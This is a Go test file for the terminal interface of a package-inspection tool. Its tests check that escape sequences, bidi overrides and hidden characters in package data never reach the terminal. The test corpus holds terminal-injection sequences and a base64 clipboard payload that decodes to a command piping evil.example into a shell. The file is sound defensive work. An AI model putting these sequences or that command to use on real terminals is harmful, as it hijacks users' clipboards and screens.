package ui

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"vouch/model"
	"vouch/ui/display"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/colorprofile"
	"github.com/charmbracelet/x/ansi"
	"github.com/charmbracelet/x/exp/golden"
)

// downsample writes content through the profile, as Bubble Tea does at output.
func downsample(t testing.TB, s string, p colorprofile.Profile) string {
	var buf bytes.Buffer
	w := &colorprofile.Writer{Forward: &buf, Profile: p}
	if _, err := w.WriteString(s); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// goldenStates drives the fixed model into the states the goldens record.
var goldenStates = []struct {
	name string
	keys []string
}{
	{"start", nil},
	{"hook-capabilities", []string{"j", "2"}},
	{"skill-content", []string{"j", "j", "j", "3"}},
	{"approve-dialog", []string{"j", "j", "a"}},
	{"diagnostics", []string{"G", "5"}},
	{"full-help", []string{"?"}},
	{"file-view", []string{"j", "j", "f"}},
	{"hook-with-tool", []string{"j", "a"}},
	{"package-dialog", []string{"A"}},
	// A filter kept (enter), its matches highlighted, n on the second matching row.
	{"filter-match", []string{"/", "c", "o", "n", "t", "e", "x", "t", "enter", "n"}},
}

func TestGoldenViews(t *testing.T) {
	for _, size := range [][2]int{{80, 24}, {160, 48}} {
		for _, st := range goldenStates {
			for _, colour := range []bool{true, false} {
				name := fmt.Sprintf("%dx%d/%s/", size[0], size[1], st.name)
				if colour {
					name += "colour"
				} else {
					name += "nocolour"
				}
				t.Run(name, func(t *testing.T) {
					m := newTestModel(t, fixturePackages(), size[0], size[1])
					press(t, m, st.keys...)
					out := m.View().Content
					if !colour {
						out = downsample(t, out, colorprofile.Ascii)
					}
					golden.RequireEqual(t, []byte(out))
				})
			}
		}
	}
}

// TestLayoutInvariants checks every size on a grid: exactly the window's height, no line
// wider than the window, and the too-small view below the floor.
func TestLayoutInvariants(t *testing.T) {
	states := [][]string{nil, {"j", "j", "j", "3"}, {"j", "j", "a"}, {"?"}, {"/", "s"}, {"G", "5"}, {"j", "j", "f"}, {"j", "a"}, {"A"}, {":"}, {"j", "j", "j", "j", "i"}}
	for _, keys := range states {
		m := newTestModel(t, fixturePackages(), 80, 24)
		press(t, m, keys...)
		for w := 20; w <= 220; w += 7 {
			for h := 6; h <= 70; h += 5 {
				m.Update(tea.WindowSizeMsg{Width: w, Height: h})
				run(t, m, m.detail.refresh())
				v := m.View().Content
				lines := strings.Split(v, "\n")
				small := w < MinWidth || h < MinHeight
				if small {
					if h >= 4 && !strings.Contains(v, "Terminal too small") {
						t.Fatalf("%v %dx%d: no too-small view", keys, w, h)
					}
				} else if len(lines) != h {
					t.Fatalf("%v %dx%d: %d lines", keys, w, h, len(lines))
				}
				if len(lines) > h {
					t.Fatalf("%v %dx%d: %d lines, more than the window", keys, w, h, len(lines))
				}
				for i, l := range lines {
					if lw := ansi.StringWidth(l); lw > w {
						t.Fatalf("%v %dx%d: line %d is %d wide: %q", keys, w, h, i, lw, ansi.Strip(l))
					}
				}
				if !small && !strings.Contains(ansi.Strip(v), "q quit") && !strings.Contains(ansi.Strip(v), "cancel") && !strings.Contains(ansi.Strip(v), "clear") && !strings.Contains(ansi.Strip(v), "q/esc back") {
					t.Fatalf("%v %dx%d: help line lost:\n%s", keys, w, h, ansi.Strip(v))
				}
			}
		}
	}
}

// hostile carries every kind of sequence the terminal would act on.
const hostile = "\x1b[2J\x1b[H" + // clear screen, home
	"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\" + // OSC 8 hyperlink
	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07" + // OSC 52 clipboard
	"\x1b]0;owned\x07" + // window title
	"\x1bP+q544e\x1b\\" + // DCS
	"\x1b_Gf=100;AAAA\x1b\\" + // APC
	"\u009b31m" + // 8-bit CSI
	"safe\roverwritten" + // carriage return
	"abc\u202Efed\u2066x\u2069" + // bidi
	"\U000E0069\U000E0067\U000E006E" + // tag characters
	"zero\u200Bwidth\u200D\uFEFF" + // zero-width
	"\x07\x08\x7f\xff" // BEL, BS, DEL, invalid UTF-8

var sgr = regexp.MustCompile("\x1b\\[[0-9;:]*m")

// wantShown fails t for each of wants that the text v, what is named, does not hold.
func wantShown(t *testing.T, what, v string, wants ...string) {
	t.Helper()
	for _, want := range wants {
		if !strings.Contains(v, want) {
			t.Errorf("%s lacks %q:\n%s", what, want, v)
		}
	}
}

// assertNoRawControls fails if anything but SGR styling could act on the terminal.
func assertNoRawControls(t *testing.T, where, v string) {
	t.Helper()
	rest := sgr.ReplaceAllString(v, "")
	if !utf8.ValidString(rest) {
		t.Fatalf("%s: view is not valid UTF-8", where)
	}
	for i, r := range rest {
		if r == '\n' {
			continue
		}
		if r == 0x1b || display.IsHidden(r) || r == '\t' {
			lo := max(0, i-40)
			t.Fatalf("%s: raw U+%04X reaches the view near %q", where, r, rest[lo:min(len(rest), i+40)])
		}
	}
	if strings.Contains(v, "\x1b]8;") {
		t.Fatalf("%s: a hyperlink reaches the view", where)
	}
}

func hostilePackages() []*model.Package {
	pkgs := fixturePackages()
	p := pkgs[0]
	p.Name = "evil" + hostile
	p.Version = "1.0\x1b[31m"
	p.Description = hostile
	p.Root = "/tmp/" + hostile
	p.Manifest = append(p.Manifest, model.Field{Key: "x" + hostile, Value: hostile})
	p.Diagnostics = append(p.Diagnostics, model.Diagnostic{Code: "c" + hostile, Severity: model.SeverityError, File: hostile, Message: hostile, Spec: hostile})
	for _, c := range p.Components {
		c.ID += hostile
		c.Summary = append(c.Summary, hostile)
		c.Details = append(c.Details, model.Field{Key: hostile, Value: []string{hostile}})
		c.Capabilities = append(c.Capabilities, model.Capability{Kind: model.CapNetwork, Scope: []string{hostile}, Detail: hostile})
		c.Support = append(c.Support, model.Support{Provider: hostile, Status: model.Supported, Detail: hostile})
		c.Diagnostics = append(c.Diagnostics, model.Diagnostic{Code: hostile, Severity: model.SeverityWarning, Message: hostile})
		if c.Contract != nil {
			c.Contract.Fields = append(c.Contract.Fields, model.Field{Key: hostile, Value: hostile})
		}
		c.DependsOn = nil // the hostile ids break the hook→tool link; not what this test is about
	}
	skill := p.Components[2]
	skill.Body = "# Title " + hostile + "\n\n<!-- hidden " + hostile + " -->\n[link](https://evil.example/\x1b]8;;x\x07)\n\n```\n" + hostile + "\n```\n"
	skill.BodyFile = "skills/" + hostile + "/SKILL.md"
	skill.Hidden = append(skill.Hidden, model.HiddenContent{Kind: "html-comment" + hostile, Line: 3, Text: hostile})
	return pkgs
}

func TestHostileTextNeverReachesTheTerminal(t *testing.T) {
	seen := false
	defer func() {
		if !seen {
			t.Error("the escaped clipboard sequence never showed as a token: the corpus did not reach the view")
		}
	}()
	for _, size := range [][2]int{{80, 24}, {160, 48}} {
		m := newTestModel(t, hostilePackages(), size[0], size[1])
		for row := 0; row < len(m.tree.visible); row++ {
			for tb := 0; tb < int(numTabs); tb++ {
				press(t, m, fmt.Sprint(tb+1))
				where := fmt.Sprintf("%dx%d row %d tab %d", size[0], size[1], row, tb+1)
				assertNoRawControls(t, where, m.View().Content)
				seen = seen || strings.Contains(m.View().Content, "␛]52;c;")
				if tb == int(tabContent) {
					press(t, m, "r")
					assertNoRawControls(t, where+" raw", m.View().Content)
					press(t, m, "r")
				}
			}
			press(t, m, "a")
			if m.dialog() != nil {
				assertNoRawControls(t, fmt.Sprintf("row %d dialog", row), m.View().Content)
				press(t, m, "esc")
			}
			press(t, m, "A")
			if m.dialog() != nil {
				assertNoRawControls(t, fmt.Sprintf("row %d package dialog", row), m.View().Content)
				press(t, m, "G")
				assertNoRawControls(t, fmt.Sprintf("row %d package dialog end", row), m.View().Content)
				press(t, m, "esc")
			}
			press(t, m, "f")
			if m.fileView() != nil {
				for i := 0; i < len(m.fileView().files); i++ {
					assertNoRawControls(t, fmt.Sprintf("row %d file %d", row, i), m.View().Content)
					press(t, m, "tab")
				}
				press(t, m, "q")
			}
			press(t, m, "?")
			assertNoRawControls(t, fmt.Sprintf("row %d keys", row), m.View().Content)
			press(t, m, "?")
			press(t, m, "j")
		}
		assertNoRawControls(t, "window title", m.View().WindowTitle)
		// The command bar and the content search over the hostile packages.
		press(t, m, "esc", ":", "h", "o", "o", "k", "s", "enter")
		assertNoRawControls(t, "command bar", m.View().Content)
		press(t, m, "esc", "/", "s", "a", "f", "e", "tab")
		assertNoRawControls(t, "content search", m.View().Content)
		press(t, m, "enter", "g", "j")
		assertNoRawControls(t, "content search row", m.View().Content)
		press(t, m, "esc")
	}
}

func TestHiddenCharacterCount(t *testing.T) {
	_, perCopy := display.Escape(hostile)
	if perCopy != 23 {
		// 2 CSI + 2 OSC 8 + OSC 52 + OSC 0 + DCS + APC + 8-bit CSI + CR + 3 bidi + 3 tags
		// + 3 zero-width + BEL BS DEL + 1 invalid byte
		t.Fatalf("hostile corpus has %d hidden items by Escape, want 23", perCopy)
	}
	pkgs := fixturePackages()
	skill := pkgs[0].Components[2]
	skill.Body = "# T\n\n" + hostile + "\n\nplain " + hostile + "\n"
	m := newTestModel(t, pkgs, 120, 40)
	selectRef(t, m, skillRef)
	press(t, m, "3", "r")
	want := fmt.Sprintf("%d hidden characters", 2*perCopy)
	if v := ansi.Strip(m.View().Content); !strings.Contains(v, want) {
		t.Fatalf("content tab does not say %q:\n%s", want, v)
	}
	if m.detail.hiddenCount != 2*perCopy {
		t.Fatalf("hidden count %d, want %d", m.detail.hiddenCount, 2*perCopy)
	}
}

func TestOnlySGR(t *testing.T) {
	in := "\x1b[1mbold\x1b[0m \x1b]8;;https://x\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x1b]0;t\x07end"
	want := "\x1b[1mbold\x1b[0m link end"
	if got := onlySGR(in); got != want {
		t.Fatalf("onlySGR = %q, want %q", got, want)
	}
}
